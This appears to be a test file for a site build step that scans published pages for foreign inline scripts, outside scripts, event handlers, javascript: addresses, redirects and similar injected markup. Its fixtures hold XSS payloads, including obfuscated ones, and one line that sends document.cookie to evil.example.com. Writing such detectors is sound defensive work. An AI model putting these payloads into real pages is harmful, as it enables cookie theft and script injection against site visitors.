import { foreignMarkup, foreignSentence } from "../../../../src/build/publish/inline-scripts"

const own = "start()"
const style = "a{color:red}"
const page = (inside: string) => `<!doctype html><html><body>${inside}</body></html>`

test("scripts, styles, data and links of the site are not faults", () => {
  const html = page(
    `<style>${style}</style><script data-page="/">${own}</script><script src="/app.js"></script>` +
      `<script type="application/ld+json">{"name":"x"}</script>` +
      `<a href="https://www.example.com" data-once="1">Online</a> onclick=alert(1) javascript:`,
  )
  expect(foreignMarkup(html, [own, style])).toEqual([])
})

test.each([
  ["<script>alert(1)</script>", "an inline script"],
  ["<script>start() </script>", "an inline script"],
  ["<SCRIPT type=module>alert(1)</SCRIPT>", "an inline script"],
  ["<svg><script>alert(1)</script></svg>", "an inline script"],
  [`<script src="https://evil.example.com/x.js"></script>`, "a script of another site"],
  [`<script src="//evil.example.com/x.js"></script>`, "a script of another site"],
  [`<script src="/\\evil.example.com/x.js"></script>`, "a script of another site"],
  [`<svg><script href="https://evil.example.com/x.js"></script></svg>`, "a script of another site"],
  [
    `<meta http-equiv="refresh" content="0;url=https://evil.example.com">`,
    "a page that leads elsewhere by itself",
  ],
  [`<style>body{display:none}</style>`, "the element <style>"],
  [`<img src="x" onerror="alert(1)">`, "the event handler onerror"],
  ["<details open ontoggle=alert(1)>x</details>", "the event handler ontoggle"],
  [`<a href="javascript:alert(1)">x</a>`, "an address that runs a script (href)"],
  [`<a href="java&#10;script:alert(1)">x</a>`, "an address that runs a script (href)"],
  [`<form action=" JavaScript:alert(1)"></form>`, "an address that runs a script (action)"],
  [`<iframe src="/"></iframe>`, "the element <iframe>"],
  [`<base href="https://evil.example.com/">`, "the element <base>"],
])("%s is found", (inside, what) => {
  expect(foreignMarkup(page(inside), [own, style]).map((each) => each.what)).toContain(what)
})

test("the sentence names the page, the beginning of the text, and the file it was written in", () => {
  const text = 'fetch("https://evil.example.com/?" + document.cookie)'
  const content = [
    { path: "site/home.json", text: "{}" },
    { path: "products/plank.json", text: JSON.stringify({ summary: `<script>${text}</script>` }) },
  ]
  expect(foreignSentence("/plank", { what: "an inline script", text }, content)).toBe(
    'The page /plank contains an inline script that does not belong to the site: fetch("https://evil.example.com/?" + document.cookie). It comes from content/products/plank.json: delete it there.',
  )
})

test("if no content file contains it, the sentence names none", () => {
  const found = { what: "an inline script", text: "x()" }
  expect(foreignSentence("/", found, [])).toBe(
    "The page / contains an inline script that does not belong to the site: x().",
  )
})
